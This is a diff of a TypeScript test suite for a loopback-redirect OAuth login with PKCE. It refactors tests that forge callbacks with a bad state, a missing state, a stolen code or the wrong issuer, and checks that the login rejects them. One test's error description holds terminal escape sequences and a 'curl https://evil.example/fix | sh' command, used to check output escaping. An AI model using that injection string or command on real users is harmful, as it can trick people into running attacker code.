@@ -23,6 +23,18 @@ describe('native-app login: authorization code + PKCE through a loopback redirec
   const newPage = () => fixture.newPage();
 
   /** Options for a login whose "browser" is `drive(url)`, started in the background (the listener answers only once the code is redeemed). */
+  /**
+   * What another local process can do: call the loopback listener of the login whose
+   * authorization URL is `url`, with that login's `state` (unless `params` sets or drops it).
+   */
+  async function forgeCallback(url: string, params: Record<string, string | null>): Promise<{ status: number; text: string }> {
+    const request = new URL(url);
+    const callback = new URL(request.searchParams.get('redirect_uri') ?? '');
+    for (const [name, value] of Object.entries({ state: request.searchParams.get('state'), ...params })) if (value !== null) callback.searchParams.set(name, value);
+    const response = await fetch(callback);
+    return { status: response.status, text: await response.text() };
+  }
+
   function options(drive: (url: string) => Promise<void>, extra: Partial<LoopbackLoginOptions> = {}): { options: LoopbackLoginOptions; driven: () => Promise<void>; url: () => URL } {
     let driving: Promise<void> | undefined;
     let seen: URL | undefined;
@@ -93,11 +105,8 @@ describe('native-app login: authorization code + PKCE through a loopback redirec
     const page = await newPage();
     const forged: { status: number; text: string }[] = [];
     const login = options(async (url) => {
-      const redirectUri = new URL(url).searchParams.get('redirect_uri') ?? '';
-      const answer = await fetch(`${redirectUri}?code=forged-code&state=not-the-state&iss=${encodeURIComponent(t.issuer)}`);
-      forged.push({ status: answer.status, text: await answer.text() });
-      const missing = await fetch(`${redirectUri}?code=forged-code&iss=${encodeURIComponent(t.issuer)}`);
-      forged.push({ status: missing.status, text: await missing.text() });
+      forged.push(await forgeCallback(url, { code: 'forged-code', state: 'not-the-state', iss: t.issuer }));
+      forged.push(await forgeCallback(url, { code: 'forged-code', state: null, iss: t.issuer }));
       await signInAndConsent(page, url, user, 'none'); // consented in the first test
       await page.getByRole('heading', { name: 'Signed in' }).waitFor();
     });
@@ -115,13 +124,9 @@ describe('native-app login: authorization code + PKCE through a loopback redirec
     // Another local user read the authorization URL (state included) from the opener's argv.
     const login = options(
       async (url) => {
-        const request = new URL(url);
-        for (const extra of [{ code: 'a-code-from-elsewhere', iss: 'https://evil.example.com' }, { code: 'a-code-from-elsewhere' }, { iss: t.issuer }]) {
-          const callback = new URL(request.searchParams.get('redirect_uri') ?? '');
-          callback.searchParams.set('state', request.searchParams.get('state') ?? '');
-          for (const [name, value] of Object.entries(extra)) callback.searchParams.set(name, value);
-          const response = await fetch(callback);
-          answers.push({ status: response.status, text: await response.text() });
+        const forgeries: Record<string, string>[] = [{ code: 'a-code-from-elsewhere', iss: 'https://evil.example.com' }, { code: 'a-code-from-elsewhere' }, { iss: t.issuer }];
+        for (const extra of forgeries) {
+          answers.push(await forgeCallback(url, extra));
         }
         await signInAndConsent(page, url, user, 'none');
         await page.getByRole('heading', { name: 'Signed in' }).waitFor();
@@ -142,13 +147,7 @@ describe('native-app login: authorization code + PKCE through a loopback redirec
     let forged: { status: number; text: string } | undefined;
     const login = options(
       async (url) => {
-        const request = new URL(url);
-        const callback = new URL(request.searchParams.get('redirect_uri') ?? '');
-        callback.searchParams.set('code', 'forged-code');
-        callback.searchParams.set('state', request.searchParams.get('state') ?? '');
-        callback.searchParams.set('iss', t.issuer);
-        const response = await fetch(callback);
-        forged = { status: response.status, text: await response.text() };
+        forged = await forgeCallback(url, { code: 'forged-code', iss: t.issuer });
         await signInAndConsent(page, url, user, 'none');
         await page.getByRole('heading', { name: 'Signed in' }).waitFor();
       },
@@ -165,13 +164,7 @@ describe('native-app login: authorization code + PKCE through a loopback redirec
   it('an error response with the right state and iss ends the login (it cannot be told from a denial); its description is escaped in the message', async () => {
     const description = '\u001b[2K\rSession expired. Re-run: curl https://evil.example/fix | sh\u001b]0;pwned\u0007';
     const login = options(async (url) => {
-      const request = new URL(url);
-      const callback = new URL(request.searchParams.get('redirect_uri') ?? '');
-      callback.searchParams.set('error', 'access_denied');
-      callback.searchParams.set('error_description', description);
-      callback.searchParams.set('state', request.searchParams.get('state') ?? '');
-      callback.searchParams.set('iss', t.issuer);
-      await fetch(callback);
+      await forgeCallback(url, { error: 'access_denied', error_description: description, iss: t.issuer });
     });
     const err = await loopbackLogin(login.options).catch((e: unknown) => e);
     await login.driven();
